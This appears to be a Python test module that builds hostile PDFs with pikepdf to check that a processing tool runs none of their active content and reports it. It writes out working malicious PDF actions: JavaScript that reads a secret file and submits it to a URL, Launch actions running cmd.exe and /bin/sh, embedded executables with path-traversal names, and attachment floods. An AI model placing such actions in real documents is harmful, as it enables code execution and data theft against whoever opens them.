"""Files that want something done: scripts, programs, forms that send themselves. Nothing is, and it is told."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile.case import ANY, TOLD, Bait, case
from tests.hostile.cos import altered
from tests.hostile.widgets import annotate, widget

_SCRIPT = "while(1){} app.launchURL('{url}'); this.submitForm('{url}'); util.readFileIntoStream('{secret}');"


def _actions(bait: Bait) -> dict[str, tuple[str, frozenset[str]]]:
    url, secret = bait.url, str(bait.secret)
    script = _SCRIPT.replace("{url}", url).replace("{secret}", secret)
    file = f"<</Type /Filespec /F ({secret}) /UF ({secret})>>"
    return {
        "javascript": (f"<</S /JavaScript /JS ({_escaped(script)})>>", TOLD),
        "launch": (f"<</S /Launch /F ({secret}) /Win <</F (cmd.exe) /P (/c calc)>>>>", TOLD),
        "launch_shell": ("<</S /Launch /F (/bin/sh) /Unix <</F (/bin/sh) /P (-c 'touch /tmp/owned')>>>>", TOLD),
        "submit": (f"<</S /SubmitForm /F <</FS /URL /F ({url}submit)>> /Flags 4>>", TOLD),
        "import": (f"<</S /ImportData /F {file}>>", TOLD),
        "go_to_remote": (f"<</S /GoToR /F {file} /D [0 /Fit]>>", TOLD),
        "go_to_share": ("<</S /GoToR /F (\\\\\\\\127.0.0.1\\\\share\\\\x.pdf) /D [0 /Fit]>>", TOLD),
        "go_to_embedded": (f"<</S /GoToE /F {file} /T <</R /C /N (x) /T <</R /P>>>>>>", TOLD),
        "rich_media": ("<</S /RichMediaExecute /TA null /CMD <</C (play)>>>>", TOLD),
        "uri": (f"<</S /URI /URI ({url}uri)>>", ANY),
        "rendition": (f"<</S /Rendition /OP 0 /JS ({_escaped(script)})>>", ANY),
    }


def _escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def _on_opening(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    pdf.Root.OpenAction = action


def _on_the_page(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action, C=action)


def _on_a_field(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    widget(pdf, "days_absent").AA = Dictionary(K=action, F=action, V=action, C=action, Fo=action)


def _on_a_link(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    annotate(pdf, Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 600, 20]), A=action, PA=action))


def _behind_others(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    """The last of a row of jumps, which themselves go round."""
    for _ in range(5):
        action = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([action])))
    pdf.Root.OpenAction = action


_PLACES: tuple[Callable[[pikepdf.Pdf, pikepdf.Object], None], ...] = (
    _on_opening,
    _on_the_page,
    _on_a_field,
    _on_a_link,
    _behind_others,
)


def _enter(kind: str, put: Callable[[pikepdf.Pdf, pikepdf.Object], None], accepts: frozenset[str]) -> None:
    def acting(bait: Bait) -> bytes:
        text, _ = _actions(bait)[kind]
        return altered(bait.copy(), lambda pdf: put(pdf, pdf.make_indirect(pikepdf.Object.parse(text.encode()))))

    place = put.__name__.strip("_")
    acting.__name__, acting.__doc__ = f"{kind}_{place}", f"An action: {kind}, {place.replace('_', ' ')}."
    case(accepts)(acting)


def _kinds() -> dict[str, frozenset[str]]:
    return {kind: accepts for kind, (_, accepts) in _actions(Bait("", Path(), bytes)).items()}


for _kind, _accepts in _kinds().items():
    for _place in _PLACES:
        _enter(_kind, _place, _accepts)


@case(TOLD)
def embedded_executable(bait: Bait) -> bytes:
    """An attached program, by a name that climbs out of its folder."""

    def change(pdf: pikepdf.Pdf) -> None:
        program = pikepdf.Stream(pdf, b"MZ" + b"\x90" * 4_096)
        program.Type = Name.EmbeddedFile
        for name in ("../../../../tmp/owned.exe", "C:\\Windows\\System32\\owned.exe", "con", "a\x00b.exe"):
            spec = Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=program, UF=program))
            names = pdf.Root.get("/Names", Dictionary())
            listed = names.get("/EmbeddedFiles", Dictionary(Names=Array()))
            listed.Names = Array([*listed.Names.as_list(), name, spec])
            names.EmbeddedFiles = listed
            pdf.Root.Names = names

    return altered(bait.copy(), change)


@case(TOLD)
def ten_thousand_attachments(bait: Bait) -> bytes:
    """10,000 attachments."""

    def change(pdf: pikepdf.Pdf) -> None:
        program = pdf.make_indirect(pikepdf.Stream(pdf, b"x"))
        listed: list[object] = []
        for number in range(10_000):
            spec = Dictionary(Type=Name.Filespec, F=f"{number}", EF=Dictionary(F=program))
            listed += [f"{number:06}", pdf.make_indirect(spec)]
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(listed)))

    return altered(bait.copy(), change)


@case(TOLD)
def attachment_on_the_page(bait: Bait) -> bytes:
    """A paper clip on the page, rich media and a film beside it."""

    def change(pdf: pikepdf.Pdf) -> None:
        for kind in (Name.FileAttachment, Name.RichMedia, Name.Movie, Name.Screen):
            annotate(pdf, Dictionary(Subtype=kind, Rect=Array([0, 0, 9, 9]), FS="../../x.exe"))

    return altered(bait.copy(), change)


@case(TOLD)
def scripts_by_name(bait: Bait) -> bytes:
    """Scripts in the document's own list of names, which run on opening."""
    script = _SCRIPT.replace("{url}", bait.url).replace("{secret}", str(bait.secret))

    def change(pdf: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name.JavaScript, JS=pikepdf.Stream(pdf, script.encode()))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", action])))

    return altered(bait.copy(), change)


@case(TOLD)
def calculation_order(bait: Bait) -> bytes:
    """Fields that compute each other by script, in a circle."""

    def change(pdf: pikepdf.Pdf) -> None:
        one, other = widget(pdf, "days_absent"), widget(pdf, "days_present")
        for each in (one, other):
            action = Dictionary(S=Name.JavaScript, JS="event.value = 1 + getField('days_absent').value")
            each.AA = Dictionary(C=action)
        pdf.Root.AcroForm.CO = Array([one, other, one])

    return altered(bait.copy(), change)


@case()
def external_stream(bait: Bait) -> bytes:
    """Streams whose data lie in another file: the page's content and a field's value."""

    def change(pdf: pikepdf.Pdf) -> None:
        outside = pikepdf.Stream(pdf, b"")
        outside.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F=bait.url)
        local = pikepdf.Stream(pdf, b"")
        local.F, local.FFilter = str(bait.secret), Name.FlateDecode
        widget(pdf, "other_notes").V = local
        widget(pdf, "days_absent").V = outside
        pdf.pages[0].contents_add(outside)
        pdf.pages[0].contents_add(local)

    return altered(bait.copy(), change)


@case()
def reference_xobject(bait: Bait) -> bytes:
    """A form that stands for a page of another file, on disk and on the net."""

    def change(pdf: pikepdf.Pdf) -> None:
        form = pikepdf.Stream(pdf, b"")
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
        form.Ref = Dictionary(F=str(bait.secret), Page=0)
        pdf.pages[0].obj.Resources.XObject.Other = form
        pdf.pages[0].contents_add(pikepdf.Stream(pdf, b"/Other Do"))

    return altered(bait.copy(), change)
